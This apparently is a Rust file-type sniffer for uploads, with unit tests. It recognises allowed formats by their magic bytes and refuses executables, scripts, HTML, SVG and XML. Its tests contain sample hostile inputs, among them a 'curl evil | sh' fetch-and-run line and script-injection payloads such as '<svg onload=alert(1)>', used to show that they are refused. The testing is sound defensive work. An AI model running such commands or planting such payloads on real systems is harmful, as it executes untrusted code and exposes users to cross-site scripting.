//! What a file is, from its first bytes and never from its name: a name or
//! declared type is whatever the sender chose.
//!
//! Every check reads a fixed prefix or walks the bytes once.

use std::borrow::Cow;

use super::{FileKind, Refused};

/// What the bytes turned out to be.
#[derive(Debug)]
pub(super) enum Content<'a> {
    /// An allowed format told by its magic number.
    Binary(FileKind),
    /// Text, decoded; whether it is JSON, HAR or CSV is decided on parsing.
    Text(Cow<'a, str>),
}

const PROGRAM: Refused = Refused::NotAllowed {
    looks_like: Some("a program"),
};
const SCRIPT: Refused = Refused::NotAllowed {
    looks_like: Some("a script"),
};
const WEB_PAGE: Refused = Refused::NotAllowed {
    looks_like: Some("a web page"),
};
const SVG: Refused = Refused::NotAllowed {
    looks_like: Some("an SVG image"),
};
const XML: Refused = Refused::NotAllowed {
    looks_like: Some("an XML document"),
};
const BINARY: Refused = Refused::NotAllowed { looks_like: None };

const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

pub(super) fn sniff(bytes: &[u8]) -> Result<Content<'_>, Refused> {
    if let Some(kind) = allowed_binary(bytes) {
        return Ok(Content::Binary(kind));
    }
    if is_program(bytes) {
        return Err(PROGRAM);
    }
    let text = match utf16(bytes) {
        Some(decoded) => Cow::Owned(decoded.ok_or(BINARY)?),
        None => decode(bytes.strip_prefix(UTF8_BOM).unwrap_or(bytes)).ok_or(BINARY)?,
    };
    if text.starts_with("#!") {
        return Err(SCRIPT);
    }
    if let Some(refused) = markup(text.as_bytes()) {
        return Err(refused);
    }
    Ok(Content::Text(text))
}

/// Text behind a UTF-16 byte order mark, as Windows PowerShell 5 writes
/// redirected output: `None` without the mark, `Some(None)` when what
/// follows is no UTF-16 text.
fn utf16(bytes: &[u8]) -> Option<Option<String>> {
    let (little, body) = if let Some(body) = bytes.strip_prefix(b"\xFF\xFE") {
        (true, body)
    } else {
        (false, bytes.strip_prefix(b"\xFE\xFF")?)
    };
    if body.len() % 2 != 0 {
        return Some(None);
    }
    let units = body.chunks_exact(2).map(|c| {
        let pair = [c[0], c[1]];
        if little {
            u16::from_le_bytes(pair)
        } else {
            u16::from_be_bytes(pair)
        }
    });
    let text: Option<String> = char::decode_utf16(units).collect::<Result<_, _>>().ok();
    Some(text.filter(|t| !t.contains('\0')))
}

fn allowed_binary(b: &[u8]) -> Option<FileKind> {
    let kind = if b.starts_with(b"\x89PNG\r\n\x1a\n") {
        FileKind::Png
    } else if b.starts_with(b"\xFF\xD8\xFF") {
        FileKind::Jpeg
    } else if b.starts_with(b"GIF87a") || b.starts_with(b"GIF89a") {
        FileKind::Gif
    } else if b.starts_with(b"RIFF") && b.get(8..12) == Some(b"WEBP") {
        FileKind::Webp
    } else if b.starts_with(b"%PDF-") {
        FileKind::Pdf
    } else if b.starts_with(b"PK\x03\x04") || b.starts_with(b"PK\x05\x06") {
        FileKind::Zip
    } else {
        return None;
    };
    Some(kind)
}

fn is_program(b: &[u8]) -> bool {
    const MAGIC: [&[u8]; 7] = [
        b"\x7FELF",
        b"\xFE\xED\xFA\xCE",
        b"\xFE\xED\xFA\xCF",
        b"\xCE\xFA\xED\xFE",
        b"\xCF\xFA\xED\xFE",
        // Mach-O universal binaries and Java classes share this one.
        b"\xCA\xFE\xBA\xBE",
        b"\0asm",
    ];
    // A DOS or Windows executable's header is binary right after `MZ`; a
    // text file that happens to start with "MZ" is not.
    let windows = b.starts_with(b"MZ") && b.iter().take(64).any(|&c| c == 0);
    windows || MAGIC.iter().any(|m| b.starts_with(m))
}

/// Markup a browser would render, told by how it starts (after blanks). An
/// SVG may open with an XML declaration, a doctype or comments of any
/// length, so XML is searched whole for an `<svg`.
fn markup(body: &[u8]) -> Option<Refused> {
    let start = body.iter().position(|c| !c.is_ascii_whitespace())?;
    let head = body.get(start..)?;
    if head.first() != Some(&b'<') {
        return None;
    }
    const PAGE: [&[u8]; 6] = [
        b"<!doctype html",
        b"<html",
        b"<head",
        b"<body",
        b"<script",
        b"<iframe",
    ];
    if starts_with_ignore_case(head, b"<svg") {
        return Some(SVG);
    }
    if PAGE.iter().any(|p| starts_with_ignore_case(head, p)) {
        return Some(WEB_PAGE);
    }
    let xml_like = [b"<?xml".as_slice(), b"<!doctype", b"<!--"]
        .iter()
        .any(|p| starts_with_ignore_case(head, p));
    if !xml_like {
        return None;
    }
    if contains_tag(head, b"svg") {
        Some(SVG)
    } else if contains_tag(head, b"html") {
        Some(WEB_PAGE)
    } else {
        Some(XML)
    }
}

fn starts_with_ignore_case(b: &[u8], prefix: &[u8]) -> bool {
    b.get(..prefix.len())
        .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

/// `<name` followed by a blank, `>` or `/`: one pass, each `<` looked at
/// for a few bytes.
fn contains_tag(b: &[u8], name: &[u8]) -> bool {
    b.iter().enumerate().any(|(i, &c)| {
        c == b'<'
            && b.get(i + 1..).is_some_and(|rest| {
                starts_with_ignore_case(rest, name)
                    && rest
                        .get(name.len())
                        .is_none_or(|&n| n.is_ascii_whitespace() || n == b'>' || n == b'/')
            })
    })
}

/// Text as UTF-8, or else as Latin-1: logs from older Windows tools often
/// are, and every byte is a Latin-1 character. What is no text at all
/// gives itself away by control bytes: a NUL anywhere, or, outside valid
/// UTF-8, any C0 control but tab, line breaks, form feed and escape
/// (terminal colours in logs). Random binary has them within its first
/// few hundred bytes almost surely.
fn decode(body: &[u8]) -> Option<Cow<'_, str>> {
    if body.contains(&0) {
        return None;
    }
    if let Ok(text) = std::str::from_utf8(body) {
        return Some(Cow::Borrowed(text));
    }
    let control =
        |c: &u8| c.is_ascii_control() && !matches!(c, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B);
    if body.iter().any(control) {
        return None;
    }
    Some(Cow::Owned(body.iter().map(|&c| char::from(c)).collect()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(bytes: &[u8]) -> Option<&'static str> {
        match sniff(bytes) {
            Err(Refused::NotAllowed { looks_like }) => looks_like,
            other => panic!("expected a refusal, got {other:?}"),
        }
    }

    fn kind(bytes: &[u8]) -> FileKind {
        match sniff(bytes) {
            Ok(Content::Binary(kind)) => kind,
            other => panic!("expected a binary kind, got {other:?}"),
        }
    }

    #[test]
    fn allowed_formats_by_magic_number() {
        assert_eq!(kind(b"\x89PNG\r\n\x1a\n...."), FileKind::Png);
        assert_eq!(kind(b"\xFF\xD8\xFF\xE0"), FileKind::Jpeg);
        assert_eq!(kind(b"GIF89a...."), FileKind::Gif);
        assert_eq!(kind(b"RIFF\x10\0\0\0WEBPVP8 "), FileKind::Webp);
        assert_eq!(kind(b"%PDF-1.7\n"), FileKind::Pdf);
        assert_eq!(kind(b"PK\x03\x04...."), FileKind::Zip);
        assert_eq!(kind(b"PK\x05\x06\0\0"), FileKind::Zip);
    }

    #[test]
    fn programs_and_scripts() {
        assert_eq!(refused(b"MZ\x90\0\x03\0\0\0"), Some("a program"));
        assert_eq!(refused(b"\x7FELF\x02\x01\x01"), Some("a program"));
        assert_eq!(refused(b"\xCF\xFA\xED\xFE\x07\0\0\x01"), Some("a program"));
        assert_eq!(refused(b"#!/bin/sh\ncurl evil | sh\n"), Some("a script"));
        assert_eq!(
            refused(b"\xEF\xBB\xBF#!/usr/bin/env python\n"),
            Some("a script")
        );
        assert!(matches!(
            sniff(b"MZ is a fine start for text"),
            Ok(Content::Text(_))
        ));
    }

    #[test]
    fn markup_is_refused_whatever_its_case() {
        assert_eq!(refused(b"\n  <!DOCTYPE HTML><p>hi"), Some("a web page"));
        assert_eq!(refused(b"\xEF\xBB\xBF<Html>"), Some("a web page"));
        assert_eq!(refused(b"<script>alert(1)</script>"), Some("a web page"));
        assert_eq!(refused(b"<svg onload=alert(1)>"), Some("an SVG image"));
        let svg = b"<?xml version=\"1.0\"?>\n<!-- long -->\n<SVG xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></SVG>";
        assert_eq!(refused(svg), Some("an SVG image"));
        assert_eq!(
            refused(b"<?xml version=\"1.0\"?><note/>"),
            Some("an XML document")
        );
        assert_eq!(refused(b"<!-- x --><html>"), Some("a web page"));
    }

    #[test]
    fn text_with_angle_brackets_is_still_text() {
        assert!(matches!(
            sniff(b"<14>Oct 11 22:14:15 host app: started"),
            Ok(Content::Text(_))
        ));
        assert!(matches!(
            sniff(b"error: <html> in body"),
            Ok(Content::Text(_))
        ));
    }

    #[test]
    fn binary_is_refused_without_a_guess() {
        assert_eq!(refused(b"hello\0world"), None);
        assert_eq!(refused(b"\x80\x81\x02\x03\xFF"), None);
    }

    #[test]
    fn utf16_with_a_byte_order_mark_is_text() {
        let le: Vec<u8> = b"\xFF\xFE"
            .iter()
            .copied()
            .chain(
                "Grüße, token=x\r\n"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            )
            .collect();
        match sniff(&le) {
            Ok(Content::Text(t)) => assert_eq!(t, "Grüße, token=x\r\n"),
            other => panic!("{other:?}"),
        }
        let be: Vec<u8> = b"\xFE\xFF"
            .iter()
            .copied()
            .chain("<html>".encode_utf16().flat_map(u16::to_be_bytes))
            .collect();
        assert_eq!(refused(&be), Some("a web page"));
        assert_eq!(refused(b"\xFF\xFEa\0b"), None, "odd length");
        assert_eq!(refused(b"\xFF\xFE\0\xD8a\0"), None, "a lone surrogate");
    }

    #[test]
    fn text_decodes_from_utf8_or_latin1() {
        match sniff(b"\xEF\xBB\xBFgr\xC3\xBC\xC3\x9F") {
            Ok(Content::Text(t)) => assert_eq!(t, "grüß"),
            other => panic!("{other:?}"),
        }
        match sniff(b"caf\xE9 cr\xE8me\r\n") {
            Ok(Content::Text(t)) => assert_eq!(t, "café crème\r\n"),
            other => panic!("{other:?}"),
        }
    }
}
